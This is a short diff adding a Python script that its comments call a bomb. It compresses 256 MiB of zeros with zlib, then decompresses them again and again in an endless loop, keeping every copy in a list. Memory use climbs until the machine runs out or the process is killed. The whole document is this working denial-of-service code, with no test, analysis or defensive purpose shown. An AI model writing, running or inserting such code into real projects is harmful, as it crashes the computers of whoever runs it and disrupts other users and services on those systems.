@@ -1,0 +1,7 @@
+# unpacks a bomb
+# harm: grows
+# ends: variously
+import zlib
+d = zlib.compress(bytes(1 << 28))
+x = []
+while True: x.append(zlib.decompress(d))
